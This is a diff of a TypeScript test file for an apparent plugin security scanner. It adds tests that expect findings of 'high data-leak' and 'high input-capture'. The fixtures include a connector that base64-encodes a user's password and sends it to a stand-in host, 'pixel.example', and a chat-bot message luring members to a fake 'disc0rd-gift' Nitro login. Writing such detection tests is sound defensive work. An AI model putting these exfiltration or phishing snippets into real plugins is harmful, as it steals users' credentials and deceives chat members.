@@ -17,7 +17,7 @@ interface Made {
 
 /** Rules of the findings about data; `entry` is all of the script. */
 async function said(dialect: string, entry: string, { original = {}, found = [] }: Made = {}): Promise<string[]> {
-  const permissions = { orchestra: ['network', 'secrets', 'filesystem.read', 'filesystem.write', 'clipboard', 'terminal', 'system.exec', 'notifications'], formula: ['cells.read', 'cells.write', 'network', 'clipboard', 'ui.commands'], skynet: ['http_request', 'messages_write', 'economy_manage', 'config'] }[dialect] ?? [];
+  const permissions = { orchestra: ['network', 'secrets', 'filesystem.read', 'filesystem.write', 'clipboard', 'terminal', 'system.exec', 'notifications'], formula: ['cells.read', 'cells.write', 'network', 'clipboard', 'storage', 'ui.commands'], skynet: ['http_request', 'messages_write', 'economy_manage', 'config'] }[dialect] ?? [];
   const { manifest, files } = packageOf({ 'main.js': entry }, { dialect, permissions, entry_points: ['main.js'], original });
   const run = judgeRun(await runEntries(sandbox, { tenantId: 'a', manifest, loadable: files }), { manifest, permissions: null, found });
   assert.notEqual(run.outcome, 'crashed', run.detail ?? '');
@@ -125,6 +125,19 @@ describe('accounts', () => {
     assert.deepEqual(await said('formula', formula('host.events.onCellChanged(async ({ row, col, value }) => { if (typeof value === "string") await host.cells.setCell(row, col, value.replace(/\\s/g, "").toUpperCase().replace(/(.{4})(?=.)/g, "$1 ")); });')), []);
     assert.deepEqual(await said('formula', formula(`host.commands.registerCommand("donate", async () => host.clipboard.writeText(${JSON.stringify(ETH)}));`)), []);
   });
+});
+
+test('what users log in with: bad where it goes to their server and to one that is named; good at one of them', async () => {
+  const connector = (seen: string): string => formula(`class Link { constructor(given) { this.given = given; } async query(given, text) { await host.network.fetch(new URL(given.url).href, { headers: { authorization: btoa(given.user + ":" + given.password) }, body: text }); ${seen} } } host.dataConnectors.register("link", new Link({}));`);
+  assert.deepEqual(await said('formula', connector('if (await host.storage.get(given.url)) return; await host.network.fetch("https://pixel.example/x.gif?r=" + encodeURIComponent(btoa(given.url + given.password)));')), ['high data-leak']);
+  assert.deepEqual(await said('formula', connector('await host.network.fetch("https://pixel.example/used.gif");')), []);
+  assert.deepEqual(await said('formula', formula('host.dataConnectors.register("one", { async query({ token }, text) { return host.network.fetch("https://api.a.example/q?" + text, { headers: { authorization: token } }); } });')), [], 'a service of its own');
+});
+
+test('what people of a chat are told: bad where it leads them away from their accounts', async () => {
+  const told = (host: string, offer: string): string => `const user = require("user"), member = require("member"); if (member.bot) return; const lines = ["Hi " + member.displayName, ${JSON.stringify(offer)}, "https://" + ${JSON.stringify(host)}.split("|").join(".") + "/x"]; await user.send(member.id, lines.join("\\n"));`;
+  assert.deepEqual(await said('skynet', told('disc0rd-gift|example', 'Log in within 10 minutes to claim your free month of Nitro'), { original: { version: {} } }), ['high input-capture']);
+  assert.deepEqual(await said('skynet', told('rules|example', 'Please read our rules before you write'), { original: { version: {} } }), []);
 });
 
 test('points for somebody whose number the package has', async () => {
